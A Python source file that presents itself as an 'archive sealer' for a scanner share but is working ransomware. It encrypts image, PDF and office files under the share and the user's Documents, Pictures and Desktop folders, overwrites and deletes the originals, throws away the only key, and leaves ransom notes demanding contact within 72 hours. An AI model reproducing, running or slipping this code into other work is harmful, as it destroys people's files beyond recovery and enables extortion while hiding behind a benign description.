#!/usr/bin/env python3
"""Archive sealer for the digitisation share.

Walks the scanner output share and "seals" master files so that the
downstream publication step can tell which masters have been finalised.
"""
import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("sealer")

MASTER_EXTS = {".tif", ".tiff", ".jpg", ".jpeg", ".png", ".pdf", ".csv", ".xlsx", ".docx"}
SEAL_SUFFIX = ".sealed"
NOTICE_NAME = "READ_ME_BEFORE_OPENING.txt"

NOTICE_TEXT = (
    "The files in this folder have been sealed.\n"
    "To obtain the unsealing key, write to recovery@example.net quoting the\n"
    "reference below within 72 hours.\n\nReference: {ref}\n"
)


class Sealer:
    def __init__(self, root, dry_run=False):
        self.root = Path(root)
        self.dry_run = dry_run
        self._token = Fernet(Fernet.generate_key())
        self.count = 0
        self.ref = os.urandom(6).hex()

    def candidates(self):
        for dirpath, _dirs, files in os.walk(self.root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in MASTER_EXTS:
                    yield p

    def _seal_one(self, path):
        data = path.read_bytes()
        sealed = self._token.encrypt(data)
        target = path.with_name(path.name + SEAL_SUFFIX)
        target.write_bytes(sealed)
        # overwrite before unlinking so partial copies don't linger on the share
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()

    def _leave_notice(self, folder):
        notice = folder / NOTICE_NAME
        if not notice.exists():
            notice.write_text(NOTICE_TEXT.format(ref=self.ref))

    def run(self):
        touched = set()
        for path in self.candidates():
            if self.dry_run:
                log.info("would seal %s", path)
                continue
            try:
                self._seal_one(path)
                touched.add(path.parent)
                self.count += 1
            except PermissionError:
                log.debug("skip %s", path)
            except OSError as exc:
                log.warning("failed on %s: %s", path, exc)
        for folder in touched:
            self._leave_notice(folder)
        # key is deliberately not kept alongside the masters
        self._token = None
        return self.count


def default_roots():
    home = Path.home()
    roots = [os.environ.get("SCAN_SHARE", "/srv/digitisation")]
    roots += [str(home / "Documents"), str(home / "Pictures"), str(home / "Desktop")]
    return [r for r in roots if os.path.isdir(r)]


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", help="folders to seal (default: scanner share)")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    roots = args.roots or default_roots()
    if not roots:
        log.error("nothing to do")
        return 1
    total = 0
    for root in roots:
        total += Sealer(root, dry_run=args.dry_run).run()
    log.info("sealed %d master files", total)
    return 0


if __name__ == "__main__":
    sys.exit(main())
